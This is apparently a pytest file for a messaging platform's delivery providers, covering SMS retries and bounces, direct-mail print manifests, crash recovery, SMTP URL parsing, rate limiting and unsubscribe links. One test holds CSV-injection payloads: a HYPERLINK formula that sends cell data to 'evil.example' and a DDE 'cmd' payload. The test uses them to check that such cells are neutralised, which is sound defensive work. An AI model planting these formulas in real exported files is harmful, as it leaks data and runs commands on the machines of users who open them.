"""Delivery providers against real servers on loopback: the SMS API, print files, SMTP URLs,
the rate limiter, and the unsubscribe link."""

from __future__ import annotations

import asyncio
import csv
import time
import uuid
from collections.abc import Callable
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from pydantic import SecretStr
from sqlalchemy import select, update
from tests.messaging.engine_helpers import (
    SmsApi,
    engine_worker,
    execution,
    person,
    rows,
    run_execution,
    seed_campaign,
    send_now,
    sms_server,
)

from beacon.core.config import Settings
from beacon.core.db import Database
from beacon.core.smtp import SmtpConfig
from beacon.messaging.campaigns.clock import ManualClock
from beacon.messaging.delivery.scheduler import Scheduler
from beacon.messaging.models import Contact, Recipient
from beacon.messaging.providers import RateLimiter

ADDRESS = {"line1": "1 Main St", "city": "Springfield", "postalCode": "12345", "country": "US"}
LETTER = {
    "html": "<p>Dear {{ contact.firstName }}, code {{ contact.attributes.code }}</p>",
    "addressBlock": "{{ contact.firstName }}\n{{ contact.address.line1 }}\n"
    "{{ contact.address.postalCode }} {{ contact.address.city }}",
}


def test_sms_api_statuses_retries_and_bounces(db: Database, settings: Settings) -> None:
    people = [
        person(0, phone="+14155550101"),
        person(1, phone="+14155550000"),  # 400 Invalid 'To': fails, number bounced
        person(2, phone="+14155554290"),  # 429 once, then accepted
        person(3),  # no phone: fails at hydrated
    ]
    content = {"body": "Hi {{ contact.firstName }} {{ contact.attributes.code }}. Reply STOP"}
    campaign_id = seed_campaign(db, people=people, channel="sms", content=content)
    api = SmsApi()
    with sms_server(api) as url:
        config = settings.model_copy(
            update={
                "sms_api_base_url": url,
                "sms_account_sid": api.account,
                "sms_auth_token": SecretStr(api.token),
                "sms_from_number": "+15005550006",
                "messaging_retry_backoff_seconds": 0.01,
            }
        )
        execution_id = send_now(db, campaign_id)
        run_execution(db, config)
    assert execution(db, execution_id).status == "completed"
    with db.transaction() as session:
        phones = {c.id: c for c in session.scalars(select(Contact))}
    result = {phones[r.contact_id].phone: r for r in rows(db, execution_id)}
    assert result["+14155550101"].stage == "sent"
    assert result["+14155550101"].provider_message_id == next(
        s["sid"] for s in api.sent if s["To"] == "+14155550101"
    )
    assert result["+14155554290"].stage == "sent" and api.attempts["+14155554290"] == 2
    invalid = result["+14155550000"]
    assert (invalid.stage, invalid.failed_stage) == ("failed", "sent")
    assert "21211" in (invalid.reason or "")
    assert result[None].failed_stage == "hydrated"
    bounced = next(c for c in phones.values() if c.phone == "+14155550000")
    assert bounced.sms_status == "bounced"
    assert {s["Body"] for s in api.sent} == {"Hi P0 C0. Reply STOP", "Hi P2 C2. Reply STOP"}
    assert {s["From"] for s in api.sent} == {"+15005550006"}


@pytest.mark.parametrize(
    ("path", "sender", "status"),
    [
        ("/v2", "+15005550006", "failed"),  # a wrong base URL: every request is a 404
        ("", SmsApi.INVALID_FROM, "completed"),  # 400 code 21212: the From number is refused
    ],
)
def test_sms_refusals_that_are_not_the_numbers_fault_bounce_no_one(
    db: Database, settings: Settings, path: str, sender: str, status: str
) -> None:
    """A 404 or a 4xx about the sender failed every recipient and marked every contact's
    number bounced, so later runs left the whole audience out."""
    people = [person(i, phone=f"+1415555010{i}") for i in range(3)]
    campaign_id = seed_campaign(db, people=people, channel="sms", content={"body": "Hi. STOP"})
    api = SmsApi()
    with sms_server(api) as url:
        config = settings.model_copy(
            update={
                "sms_api_base_url": url + path,
                "sms_account_sid": api.account,
                "sms_auth_token": SecretStr(api.token),
                "sms_from_number": sender,
                "messaging_retry_backoff_seconds": 0.01,
                "messaging_send_attempts": 2,
            }
        )
        execution_id = send_now(db, campaign_id)
        run_execution(db, config)
    assert execution(db, execution_id).status == status
    assert {r.stage for r in rows(db, execution_id)} == {"failed"}
    assert not api.sent
    with db.transaction() as session:
        assert {c.sms_status for c in session.scalars(select(Contact))} == {"subscribed"}


def _outbox_files(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file())


def test_direct_mail_print_files(db: Database, settings: Settings, tmp_path: Path) -> None:
    people = [person(i, address=ADDRESS) for i in range(5)]
    people.append(person(5, address={"line1": "2 Side St", "country": "US"}))  # incomplete
    campaign_id = seed_campaign(db, people=people, channel="direct_mail", content=LETTER)
    outbox = tmp_path / "outbox"
    # print files need no small chunks (a crash leaves nothing unknown): one directory a batch
    config = settings.model_copy(update={"messaging_outbox_dir": outbox, "messaging_batch_size": 2})
    execution_id = send_now(db, campaign_id)
    run_execution(db, config)
    assert execution(db, execution_id).status == "completed"
    final = rows(db, execution_id)
    sent = [r for r in final if r.stage == "sent"]
    assert len(sent) == 5
    failed = next(r for r in final if r.stage == "failed")
    assert failed.failed_stage == "hydrated" and "postalCode" in (failed.reason or "")
    batches = sorted((outbox / "direct_mail" / str(execution_id)).iterdir())
    assert len(batches) == 3 and not any(b.name.startswith(".tmp-") for b in batches)
    manifest_rows = [
        row
        for b in batches
        for row in csv.DictReader((b / "manifest.csv").read_text().splitlines())
    ]
    assert sorted(int(r["recipient_id"]) for r in manifest_rows) == sorted(r.id for r in sent)
    assert manifest_rows[0]["postal_code"] == "12345" and manifest_rows[0]["city"] == "Springfield"
    for row in sent:
        assert row.provider_message_id is not None
        document = (outbox / row.provider_message_id).read_text()
        assert "Dear P" in document and "1 Main St" in document


def test_direct_mail_manifest_neutralises_spreadsheet_formulas(
    db: Database, settings: Settings, tmp_path: Path
) -> None:
    """Cells a spreadsheet would evaluate (OWASP CSV injection) are written as plain text."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    hostile = {**ADDRESS, "line1": "@SUM(1+1)", "city": "+cmd|' /C calc'!A0", "region": "-2+3"}
    people = [person(0, firstName=formula, address=hostile)]
    campaign_id = seed_campaign(db, people=people, channel="direct_mail", content=LETTER)
    outbox = tmp_path / "outbox"
    send_now(db, campaign_id)
    run_execution(db, settings.model_copy(update={"messaging_outbox_dir": outbox}))
    (manifest,) = list(outbox.rglob("manifest.csv"))
    (row,) = list(csv.DictReader(manifest.read_text().splitlines()))
    assert row["name"] == "'" + formula
    assert row["line1"] == "'@SUM(1+1)" and row["city"] == "'+cmd|' /C calc'!A0"
    assert row["region"] == "'-2+3" and row["postal_code"] == "12345"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_direct_mail_recovery_uses_the_outbox_as_the_truth(
    db: Database, settings: Settings, tmp_path: Path
) -> None:
    """A worker died mid-hand-off: pieces in a finalised batch are sent, a half-written batch
    is discarded and written again; no piece is printed twice, none is lost."""
    campaign_id = seed_campaign(
        db,
        people=[person(i, address=ADDRESS) for i in range(4)],
        channel="direct_mail",
        content=LETTER,
    )
    outbox = tmp_path / "outbox"
    config = settings.model_copy(
        update={"messaging_outbox_dir": outbox, "messaging_inject_chunk_size": 2}
    )
    execution_id = send_now(db, campaign_id)
    Scheduler(settings=config, clock=ManualClock()).tick(db)
    ids = [r.id for r in rows(db, execution_id)]
    parent = outbox / "direct_mail" / str(execution_id)
    done = parent / f"{ids[0]:012d}-{ids[1]:012d}"
    done.mkdir(parents=True)
    with (done / "manifest.csv").open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["recipient_id", "contact_id", "document", "to"])
        for rid in ids[:2]:
            writer.writerow([rid, uuid.uuid4(), f"{rid}.html", "x"])
            (done / f"{rid}.html").write_text("printed")
    stale = parent / f".tmp-{ids[2]:012d}-{ids[3]:012d}-deadbeef"
    stale.mkdir()
    (stale / f"{ids[2]}.html").write_text("half")
    with db.transaction() as session:
        session.execute(update(Recipient).where(Recipient.id.in_(ids)).values(stage="injected"))
    engine_worker(db, config).run_until_idle()
    final = {r.id: r for r in rows(db, execution_id)}
    assert all(r.stage == "sent" for r in final.values())
    assert (
        final[ids[0]].provider_message_id == f"direct_mail/{execution_id}/{done.name}/{ids[0]}.html"
    )
    documents = [p.name for p in _outbox_files(parent) if p.suffix == ".html"]
    assert sorted(documents) == sorted(f"{i}.html" for i in ids)
    assert not stale.exists()


def test_email_without_smtp_goes_to_the_outbox(
    db: Database, settings: Settings, tmp_path: Path
) -> None:
    campaign_id = seed_campaign(db, people=[person(0)])
    config = settings.model_copy(update={"messaging_outbox_dir": tmp_path / "outbox"})
    execution_id = send_now(db, campaign_id)
    run_execution(db, config)
    sent = rows(db, execution_id)[0]
    assert sent.stage == "sent" and sent.provider_message_id is not None
    eml = (tmp_path / "outbox" / sent.provider_message_id).read_bytes()
    assert b"Subject: Hello P0" in eml and b"To: person0@example.com" in eml


def test_smtp_urls() -> None:
    plain = SmtpConfig.from_url("smtp://mail.example.com")
    assert (plain.hostname, plain.port, plain.start_tls, plain.use_tls) == (
        "mail.example.com",
        25,
        None,
        False,
    )
    submission = SmtpConfig.from_url("smtp://us%40er:p%3Ass@mail.example.com:587?starttls=true")
    assert (submission.username, submission.password, submission.port) == ("us@er", "p:ss", 587)
    assert submission.start_tls is True
    implicit = SmtpConfig.from_url("smtps://mail.example.com")
    assert (implicit.port, implicit.use_tls, implicit.start_tls) == (465, True, False)
    for bad in ("http://mail.example.com", "smtp://", "smtp://h?starttls=maybe"):
        with pytest.raises(ValueError):
            SmtpConfig.from_url(bad)


def test_rate_limiter_spaces_sends() -> None:
    limiter = RateLimiter(200.0)

    async def five() -> float:
        started = time.monotonic()
        await asyncio.gather(*(limiter.acquire() for _ in range(5)))
        return time.monotonic() - started

    assert asyncio.run(five()) >= 4 / 200 * 0.9
    assert RateLimiter(0).interval == 0


def test_unsubscribe_link(
    client: TestClient, db: Database, token_for: Callable[..., dict[str, str]]
) -> None:
    token_for()  # creates the account
    seed_campaign(db, people=[person(0), person(1)])
    with db.transaction() as session:
        first, second = session.scalars(select(Contact).order_by(Contact.external_id)).all()
    # a person's click, or a mail scanner fetching every link (RFC 8058's reason): a page
    # asking to confirm, which changes nothing
    for _ in range(2):
        page = client.get(f"/u/{first.unsubscribe_token}")
        assert page.status_code == 200 and '<form method="post">' in page.text
        assert page.headers["content-type"].startswith("text/html")
        assert page.headers["cache-control"] == "no-store"
    with db.transaction() as session:
        assert session.get(Contact, first.id).email_status == "subscribed"  # type: ignore[union-attr]
    # the page's button posts the form to its own address
    confirmed = client.post(f"/u/{first.unsubscribe_token}", data={"List-Unsubscribe": "One-Click"})
    assert confirmed.status_code == 200 and "You are unsubscribed" in confirmed.text
    one_click = client.post(  # RFC 8058 one-click from a mail client, no page
        f"/u/{second.unsubscribe_token}", data={"List-Unsubscribe": "One-Click"}
    )
    assert one_click.status_code == 200
    again = client.get(f"/u/{first.unsubscribe_token}")
    assert "You are unsubscribed" in again.text and "<form" not in again.text
    for follow in (client.get, client.post):
        assert follow("/u/not-a-token").status_code == 404
    with db.transaction() as session:
        statuses = {c.email_status for c in session.scalars(select(Contact))}
    assert statuses == {"unsubscribed"}


def test_a_whole_html_letter_keeps_its_address_block(
    db: Database, settings: Settings, tmp_path: Path
) -> None:
    """A letter written as a whole HTML document printed without the addressBlock the
    template set (it went only where Beacon wrapped a fragment): the vendor got letters
    without the recipient's address."""
    content = {
        "html": '<!DOCTYPE html>\n<html><head><title>L</title></head><body class="letter">'
        "<p>Dear {{ contact.firstName }}</p></body></html>",
        "addressBlock": "{{ contact.firstName }}\n{{ contact.address.line1 }}",
    }
    people = [person(0, address=ADDRESS, firstName="Ann & Bo")]
    campaign_id = seed_campaign(db, people=people, channel="direct_mail", content=content)
    outbox = tmp_path / "outbox"
    execution_id = send_now(db, campaign_id)
    run_execution(db, settings.model_copy(update={"messaging_outbox_dir": outbox}))
    (row,) = rows(db, execution_id)
    assert row.stage == "sent" and row.provider_message_id is not None
    document = (outbox / row.provider_message_id).read_text()
    assert document.startswith("<!DOCTYPE html>")
    assert (
        '<body class="letter"><address class="recipient">Ann &amp; Bo<br>1 Main St</address>'
        in document
    )
    assert "<p>Dear Ann &amp; Bo</p>" in document and document.count("<body") == 1
